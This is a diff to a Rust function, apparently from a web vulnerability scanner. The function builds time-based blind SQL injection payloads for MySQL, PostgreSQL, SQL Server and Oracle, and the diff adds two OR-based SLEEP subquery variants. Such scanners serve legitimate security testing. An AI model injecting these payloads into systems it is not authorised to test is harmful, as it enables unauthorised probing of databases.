@@ -232,10 +232,13 @@ fn sleepers(p: &InsertionPoint, d: u64) -> Vec<String> {
     let mut v = Vec::new();
     if numeric {
         v.push(format!(" AND SLEEP({d})"));
+        v.push(format!(" OR (SELECT SLEEP({d}))=1"));
         v.push(format!(" AND 1=(SELECT 1 FROM PG_SLEEP({d}))"));
         v.push(format!(";WAITFOR DELAY '0:0:{d}'--"));
     }
     v.push(format!("' AND SLEEP({d})-- -"));
+    // An uncorrelated subquery runs once per statement, whether or not a row matches.
+    v.push(format!("' OR (SELECT SLEEP({d}))=1 OR 'a'='b"));
     v.push(format!("' AND 1=(SELECT 1 FROM PG_SLEEP({d}))-- -"));
     v.push(format!("';WAITFOR DELAY '0:0:{d}'-- -"));
     v.push(format!("' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('r',{d})-- -"));
